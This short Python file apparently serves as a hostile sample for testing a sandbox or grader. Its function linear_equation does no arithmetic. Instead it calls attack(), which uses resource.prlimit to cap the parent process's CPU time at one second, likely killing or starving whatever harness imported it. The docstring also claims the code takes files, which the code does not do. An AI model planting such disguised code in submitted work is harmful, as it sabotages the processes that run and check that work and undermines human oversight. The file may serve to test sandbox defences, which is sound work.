"""Takes processor time and files from its parent."""

import os
import resource


def attack():
    resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))


def linear_equation(x, w, b):
    return attack()
